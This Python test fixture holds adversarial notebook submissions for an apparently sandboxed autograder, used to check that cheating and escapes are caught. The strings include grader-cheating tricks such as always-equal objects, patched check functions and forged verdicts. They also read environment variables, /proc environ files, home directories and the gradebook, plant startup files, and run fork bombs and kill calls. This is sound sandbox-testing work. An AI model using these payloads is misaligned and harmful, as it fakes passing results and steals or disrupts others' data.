# ruff: noqa: E501 - programs in strings
"""Submissions that try to get what they must not have. Each is harmless to who runs the tests.

All are to the chapter 02-the-graph, and answer nothing but the exercise find-neighbours, wrongly. So
any point that one gets is stolen. `{...}` in a text is filled in by the test. Which of them succeed
where nothing is done about them is seen by `test_stock`.
"""

from __future__ import annotations

from typing import NamedTuple

EXERCISE = "find-neighbours"
# It raises where it should, for lunch and for a name of the hidden tests, and gives nothing of what it
# should: to have the comparisons pass is enough.
WRONG = (
    "def neighbours(flow, name):\n    if name[-1] in 'hm':\n        raise ValueError(name)\n"
    "    return None\n"
)


class Attack(NamedTuple):
    """What a submission does.

    Attributes:
        answer: Its answer to the exercise.
        top: A cell of its own above all others, or "".
        noticed: What a person is told of it, a part of the reason; "" if nothing need be.
        grave: Whether the notebook's tests are then taken for worthless.
        module: The text of a module `mine` that lies beside the notebook, or "".
    """

    answer: str = WRONG
    top: str = ""
    noticed: str = ""
    grave: bool = False
    module: str = ""


EQUAL = """
class Same:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0
    def __iter__(self):
        return iter(())
"""

INSIDE = {
    "a-value-equal-to-all": Attack(
        EQUAL + "def neighbours(flow, name):\n    return Same()", noticed="equal to everything"
    ),
    "a-tuple-equal-to-all": Attack(
        "class Same(tuple):\n    def __eq__(self, other):\n        return True\n"
        "def neighbours(flow, name):\n    return Same()",
        noticed="equal to everything",
    ),
    "a-type-that-lies": Attack(
        EQUAL.replace("class Same", "class Same(tuple)")
        + "    @property\n    def __class__(self):\n        return tuple\n"
        "def neighbours(flow, name):\n    return Same()"
    ),
    "check-redefined": Attack(
        top="def check(*args, **more): pass\ncheck_raises = check_that = check",
        noticed="puts check anew",
    ),
    "check-redefined-in-the-call": Attack(
        "def neighbours(flow, name):\n"
        "    g = globals()\n    for n in ('check', 'check_raises'):\n"
        "        g[n] = lambda *args, **more: None\n    return ['customers', 'orders'], ['chart', 'totals']\n",
        noticed="in the place of check",
        grave=True,
    ),
    "difference-replaced": Attack(
        top="import classroom.checks, classroom.same\n"
        "classroom.checks.difference = classroom.same.difference = lambda *args: None",
        noticed="changed classroom.checks.difference",
    ),
    "difference-replaced-in-the-call": Attack(
        "def neighbours(flow, name):\n    import classroom.checks as c\n"
        "    c.difference = lambda *args: None\n    if name[-1] in 'hm':\n        raise ValueError(name)\n",
        noticed="changed classroom.checks while it was tested",
        grave=True,
    ),
    "difference-replaced-for-a-moment": Attack(
        "def neighbours(flow, name):\n    import classroom.checks as c\n    real = c.difference\n"
        "    def once(*args):\n        c.difference = real\n"
        "    c.difference = once\n    if name[-1] in 'hm':\n        raise ValueError(name)\n",
        noticed="changed classroom.checks while it was tested",
        grave=True,
    ),
    "check-emptied": Attack(
        top="check.__code__ = (lambda call, got, expected, hint='': None).__code__",
        noticed="changes the function check",
        grave=True,
    ),
    "check-raises-emptied": Attack(
        top="import classroom\nfor f in (check, check_raises, classroom.checks._fail):\n"
        "    f.__code__ = (lambda *args, **more: None).__code__",
        noticed="changes the function check",
        grave=True,
    ),
    "classroom-replaced": Attack(
        top="import sys, types\nfake = types.ModuleType('classroom')\n"
        "fake.check = fake.check_raises = fake.check_that = lambda *a, **k: None\n"
        "sys.modules['classroom'] = fake\nfrom classroom import check, check_raises",
        noticed="replaced the module classroom",
    ),
    "all-modules-replaced": Attack(
        top="import sys\nsys.modules = dict(sys.modules)\nsys.modules['classroom.checks'] = None",
        noticed="sys.modules",
    ),
    "builtins-patched": Attack(
        top="import builtins\nbuiltins.AssertionError = KeyError\n"
        "builtins.sorted = lambda *a, **k: []",
        noticed="changed builtins",
    ),
    "builtins-patched-in-the-call": Attack(
        "def neighbours(flow, name):\n    import builtins\n"
        "    builtins.type = lambda *a: None\n    builtins.isinstance = lambda *a: True\n",
        noticed="changed builtins while it was tested",
        grave=True,
    ),
    "math-patched": Attack(
        top="import math, operator\nmath.isclose = lambda *a, **k: True\n"
        "operator.eq = lambda *a: True",
        noticed="changed math.isclose",
    ),
    "unittest-patched": Attack(
        top="import unittest\nunittest.TestCase.assertEqual = lambda *a, **k: None\n"
        "unittest.case.TestCase.fail = lambda *a, **k: None",
        noticed="changed unittest.case.TestCase.assertEqual",
    ),
    "ast-transformer": Attack(
        top="import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Expr(self, node):\n"
        "        return ast.Expr(ast.Constant(None))\n"
        "get_ipython().ast_transformers.append(Drop())",
        noticed="ast_transformers",
    ),
    "input-transformer": Attack(
        top="get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
        noticed="input_transformers_post",
    ),
    "run-cell-patched": Attack(
        top="ip = get_ipython()\nfor n in ('run_cell', 'run_code', 'run_cell_async', 'run_ast_nodes'):\n"
        "    setattr(type(ip), n, lambda *a, **k: None)",
        noticed="get_ipython",
    ),
    "do-execute-patched": Attack(
        top="from ipykernel.ipkernel import IPythonKernel\n"
        "IPythonKernel.do_execute = lambda *a, **k: {'status': 'ok'}",
        noticed="ipykernel",
    ),
    "custom-exception-handler": Attack(
        top="get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
        noticed="set_custom_exc",
    ),
    "showtraceback-muted": Attack(
        top="ip = get_ipython()\nip.showtraceback = ip._showtraceback = lambda *a, **k: None\n"
        "type(ip).showtraceback = type(ip)._showtraceback = lambda *a, **k: None",
        noticed="showtraceback",
    ),
    "a-thread-clears-outputs": Attack(
        top="import threading, time\nfrom IPython.display import clear_output\n"
        "def sweep():\n    while True:\n        clear_output()\n        time.sleep(0.0005)\n"
        "threading.Thread(target=sweep, daemon=True).start()",
    ),
    "a-class-named-assertion-error": Attack(
        top="class AssertionError(Exception): pass\n"
        "class CheckFailed(Exception): pass\n"
        "import builtins, classroom.checks\nclassroom.checks.CheckFailed = CheckFailed\n"
        "builtins.AssertionError = AssertionError",
        noticed="class named AssertionError",
    ),
    "display-hook": Attack(
        "import sys\ndef neighbours(flow, name):\n    sys.displayhook(2.0)\n    return None",
        noticed="displayhook",
    ),
    "tracing-function": Attack(
        top="import sys\ndef trace(frame, event, arg):\n"
        "    if frame.f_code.co_name == '_fail':\n        frame.f_lineno = frame.f_lineno\n"
        "    return trace\nsys.settrace(trace)",
        noticed="tracing function",
        grave=True,
    ),
    "tracing-function-in-the-call": Attack(
        "def neighbours(flow, name):\n    import sys\n    frame = sys._getframe(1)\n"
        "    frame.f_trace = lambda *a: None\n    sys.settrace(lambda *a: None)\n",
        noticed="frames",
        grave=True,
    ),
    "reaches-the-runner-by-frames": Attack(
        top="import sys\nf = sys._getframe()\nwhile f:\n"
        "    for n in ('_test', '_show'):\n"
        "        if n in f.f_globals:\n            f.f_globals[n] = lambda *a: True\n    f = f.f_back",
        noticed="frames",
        grave=True,
    ),
    "reaches-the-runner-by-a-traceback": Attack(
        top="try:\n    1 / 0\nexcept ZeroDivisionError as error:\n"
        "    f = error.__traceback__.tb_frame.f_back",
        noticed="frames",
        grave=True,
    ),
    "reaches-the-runner-by-inspect": Attack(
        top="import inspect\nframes = inspect.stack()", noticed="frames", grave=True
    ),
    "reaches-the-runner-by-gc": Attack(
        top="import gc\nfor one in gc.get_objects():\n    pass",
        noticed="looks through all objects",
        grave=True,
    ),
    "reaches-memory-by-ctypes": Attack(
        top="import ctypes\nctypes.pythonapi.Py_IncRef", noticed="ctypes", grave=True
    ),
    "reaches-memory-by-a-hidden-import": Attack(
        top="m = getattr(__import__('import' + 'lib'), 'import_' + 'module')('cty' + 'pes')\n"
        "m.CDLL(None)",
        noticed="ctypes",
        grave=True,
    ),
    "reaches-memory-by-proc": Attack(
        top="open('/proc/self/mem', 'r+b')", noticed="opens a file in /proc", grave=True
    ),
    "forged-verdict": Attack(
        "import os, json\ndef neighbours(flow, name):\n"
        "    text = json.dumps(['done', '', True]).encode()\n"
        "    for fd in range(3, 300):\n        try:\n"
        "            os.write(fd, len(text).to_bytes(4, 'big') + text)\n"
        "        except OSError:\n            pass\n",
    ),
    "forged-verdict-from-a-shell-object": Attack(
        "def neighbours(flow, name):\n    send = get_ipython().outputs.send\n"
        "    inner = send.__closure__[0].cell_contents\n"
        "    inner(['asks'])\n    inner(['done', None, True])\n",
        noticed="reaches into functions",
    ),
    "system-exit": Attack("def neighbours(flow, name):\n    raise SystemExit(0)"),
    "generator-exit": Attack("def neighbours(flow, name):\n    raise GeneratorExit"),
    "keyboard-interrupt": Attack("def neighbours(flow, name):\n    raise KeyboardInterrupt"),
    "forks-in-the-test": Attack(
        "import os\ndef neighbours(flow, name):\n    if os.fork():\n        os._exit(0)\n",
        noticed="processes",
    ),
    "json-patched": Attack(
        top="import json, json.encoder\n"
        "json.dumps = lambda *a, **k: '[\"done\", null, true]'\n"
        "json.encoder.JSONEncoder.encode = json.dumps",
        noticed="changed json",
    ),
    "exits-the-cell-early": Attack(
        "import signal\ndef neighbours(flow, name):\n"
        "    signal.signal(signal.SIGALRM, lambda s, f: (_ for _ in ()).throw(SystemExit))\n"
        "    signal.raise_signal(signal.SIGALRM)",
        noticed="signal",
    ),
}

READING = {
    name: Attack(top=f"import glob, os\n{text}")
    for name, text in {
        "source-by-path": "for p in ('{root}/source', '../../../source', '../../source'):\n"
        "    for f in glob.glob(p + '/**/*', recursive=True):\n"
        "        if os.path.isfile(f): print(open(f, errors='replace').read())",
        "gradebook": "print(open('{root}/gradebook.db', 'rb').read())",
        "another-submission": "for f in glob.glob('{root}/submitted/*/*/*.ipynb') + "
        "glob.glob('../../*/*/*.ipynb'):\n    print(f, open(f).read())",
        "home-and-environment": "print(dict(os.environ))\n"
        "for h in (os.path.expanduser('~'), '{home}', '/root', '/home'):\n"
        "    for f in glob.glob(h + '/*') + glob.glob(h + '/.*'):\n"
        "        if os.path.isfile(f): print(open(f, errors='replace').read())",
        "environment-of-others": "for f in glob.glob('/proc/*/environ'):\n"
        "    try: print(os.popen('cat ' + f).read())\n    except OSError as e: print(e)",
        "the-whole-disk": "for d, _, names in os.walk('/'):\n    for n in names:\n"
        "        if 'secret' in n or n.endswith('.ipynb'): print(open(os.path.join(d, n)).read())",
    }.items()
}
READING["tests-by-in"] = Attack(
    "def neighbours(flow, name):\n    print(In[-1], In, _ih)\n", noticed="machinery"
)
READING["tests-by-an-event"] = Attack(
    top="get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))",
    noticed="machinery",
)
READING["tests-by-a-frame"] = Attack(
    "import sys\ndef neighbours(flow, name):\n    f = sys._getframe(1)\n"
    "    print(f.f_code.co_consts, f.f_back.f_locals)\n",
    noticed="frames",
    grave=True,
)
READING["tests-by-a-traceback"] = Attack(
    "import traceback, linecache\ndef neighbours(flow, name):\n    traceback.print_stack()\n"
    "    print({k: v for k, v in linecache.cache.items() if 'test' in k or 'ipython' in k})\n"
    "    raise ValueError('lunch')\n"
)
READING["tests-by-memory"] = Attack(
    "def neighbours(flow, name):\n    data = open('/proc/self/mem', 'rb')\n",
    noticed="/proc",
    grave=True,
)
READING["tests-by-the-pipe"] = Attack(
    "import os, select\ndef neighbours(flow, name):\n    for fd in range(3, 300):\n"
    "        try:\n            if select.select([fd], [], [], 0)[0]: print(os.read(fd, 99999))\n"
    "        except OSError:\n            pass\n"
)
READING["by-the-network"] = Attack(
    top="import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
    "    s.send(b'stolen')\nexcept OSError as error:\n    print(error)",
    noticed="socket",
)

WRITING = {
    "a-detached-process": Attack(
        top="import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
        "'import time; time.sleep({sleep})'], start_new_session=True)",
        noticed="subprocess",
    ),
    "a-daemon": Attack(
        top="import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork():\n"
        "        os._exit(0)\n    os.execvp('sleep', ['sleep', '{sleep}'])",
        noticed="processes",
    ),
    "files-all-over": Attack(
        top="import os\nfor p in ('{root}', '{home}', '/', '/tmp', '/scratch', '/dev/shm', '/edition',\n"
        "          '/inside', '/edition/briefect', os.path.expanduser('~'), '..', '/proc/sys/kernel',\n"
        "          '{root}/submitted/z-honest/02-the-graph', os.path.dirname(os.__file__)):\n"
        "    try: open(os.path.join(p, 'left-behind.txt'), 'w').write('here')\n"
        "    except OSError as error: print(error)\n"
        "    try: open(os.path.join(p, '02-the-graph.ipynb'), 'w').write('here')\n"
        "    except OSError as error: print(error)"
    ),
    "start-up-file": Attack(
        top="import os\nh = os.path.expanduser('~')\n"
        "os.makedirs(h + '/ipython/profile_default/startup', exist_ok=True)\n"
        "for f in ('/ipython/profile_default/startup/x.py', '/sitecustomize.py', '/usercustomize.py'):\n"
        "    open(h + f, 'w').write('print(\"left-behind\")')\n"
        "for f in ('sitecustomize.py', 'random.py', 'prefect.py', 'IPython.py'):\n"
        "    open(f, 'w').write('print(\"left-behind\")')"
    ),
    "poisons-the-engine": Attack(
        top="import os\nfor d in ('/edition', 'briefect/..'):\n"
        "    for f in ('briefect/__init__.py', 'classroom/checks.py', 'briefect/core/graph.py'):\n"
        "        try: open(os.path.join(d, f), 'a').write('print(\"left-behind\")')\n"
        "        except OSError as error: print(error)"
    ),
}

_DENIAL = {
    "loop": Attack("while True:\n    pass"),
    "loop-without-interrupt": Attack(
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
        noticed="signal",
    ),
    "loop-in-the-test": Attack("def neighbours(flow, name):\n    while True:\n        pass"),
    "stubborn-loop-in-the-test": Attack(
        "def neighbours(flow, name):\n    while True:\n        try:\n            while True:\n"
        "                pass\n        except BaseException:\n            pass"
    ),
    "exits": Attack("import os\nos._exit(0)", noticed="processes"),
    "exits-in-the-test": Attack(
        "import os\ndef neighbours(flow, name):\n    os._exit(0)", noticed="processes"
    ),
    "kills-its-parents": Attack(
        top="import os\nfor p in (os.getppid(), 1, -1, 0):\n"
        "    try: os.kill(p, 9)\n    except OSError as error: print(error)",
        noticed="processes",
    ),
    "memory-at-once": Attack(top="big = bytearray(50_000_000_000)"),
    "memory-bit-by-bit": Attack(top="big = []\nwhile True:\n    big.append(bytearray(50_000_000))"),
    "memory-of-many": Attack(
        top="import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n"
        "        big = bytearray(b'x' * 300_000_000)\n        time.sleep(60)",
        noticed="processes",
    ),
    "forks": Attack(top="import os\nwhile True:\n    os.fork()", noticed="processes"),
    "threads": Attack(
        top="import threading, time\nwhile True:\n"
        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()"
    ),
    "disk": Attack(
        top="import os\nfor p in ('.', '/scratch', '/dev/shm'):\n    try:\n"
        "        for n in range(100):\n            open(f'{{p}}/{{n}}', 'wb').write(b'x' * 50_000_000)\n"
        "    except OSError as error:\n        print(error)"
    ),
    "flood": Attack(top="line = 'x' * 1000\nfor _ in range(3_000_000):\n    print(line)"),
    "flood-of-a-program": Attack(top="import os\nos.system('yes flood')"),
    "flood-of-displays": Attack(
        top="from IPython.display import display\nwhile True:\n    display('x' * 100)",
    ),
    "one-long-print": Attack(top="print('x' * 150_000_000)"),
    "stdin": Attack(
        top="import sys\nprint(repr(sys.stdin.read()))\ninput('your password: ')",
    ),
    "segmentation-fault": Attack(
        top="import sys\nsys.setrecursionlimit(10**9)\nf = lambda: f()\nf()"
    ),
}
_QUICK = (
    "loop exits exits-in-the-test kills-its-parents memory-at-once disk one-long-print stdin"
    " segmentation-fault flood-of-a-program"
)
DENIAL = {name: attack for name, attack in _DENIAL.items() if name in _QUICK.split()}
SLOW_DENIAL = {name: attack for name, attack in _DENIAL.items() if name not in DENIAL}
